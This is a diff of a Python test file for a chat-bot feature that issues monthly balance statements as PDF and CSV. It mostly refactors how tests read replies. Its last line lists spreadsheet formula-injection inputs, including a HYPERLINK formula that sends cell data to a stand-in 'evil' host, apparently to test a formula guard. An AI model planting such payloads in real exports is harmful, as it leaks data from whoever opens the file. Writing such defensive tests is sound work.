@@ -13,7 +13,7 @@ from db.models import ClientRole
 from desk.text.spreadsheets.formula_guard import guard_cell
 from tests.flows.clients import directed, joined
 from tests.flows.paying import ADVANCE
-from tests.flows.phone import Phone, words
+from tests.flows.phone import Phone
 from tests.flows.scenes import row, taken
 from tests.flows.stage import Stage, staged
 from tests.texts import LANGUAGES, text_of
@@ -36,7 +36,7 @@ async def _moved(stage: Stage, rita: Phone, olga: Phone, reason: str = "=contrac
     number = await taken(rita, olga)
     async with stage.database.unit_of_work() as session:
         await session.execute(text(f"update tickets set organization_id = {organization}"))  # noqa: S608
-    await stage.people["Vera"].writes(f"/balance {number} +1000 {reason}")
+    await stage.vera.writes(f"/balance {number} +1000 {reason}")
     await olga.writes(f"/price {number} 950")
     return dora, organization, membership
 
@@ -51,7 +51,7 @@ async def test_a_director_gets_the_statement_of_a_month(stage: Stage, rita: Phon
     await dora.writes(f"/balance statement {month}")
     assert await _files(dora) == [f"statement-{month}.pdf", f"statement-{month}.csv"]
     assert text_of("statement-soon", month=month) in await dora.texts()
-    assert words(await dora.last()) == text_of("statement-title", month=month, name="Acme")
+    assert await dora.reads() == text_of("statement-title", month=month, name="Acme")
     pdf, table = await _contents(stage)
     assert pdf.startswith(b"%PDF")
     rows = list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"))))
@@ -60,9 +60,9 @@ async def test_a_director_gets_the_statement_of_a_month(stage: Stage, rita: Phon
         ("charge", "-950.00", ""),
     ]
     await rita.writes("/balance statement")
-    assert words(await rita.last()) == text_of("statement-nobody")
+    assert await rita.reads() == text_of("statement-nobody")
     await dora.writes("/balance statement 31.11")
-    assert words(await dora.last()) == text_of("usage-statement")
+    assert await dora.reads() == text_of("usage-statement")
 
 
 @pytest.mark.parametrize("reason", ['ok;=HYPERLINK("http://evil/?"&A1;"x")', "＝1+1", "paid\n=1+1", "@SUM(A1)"])
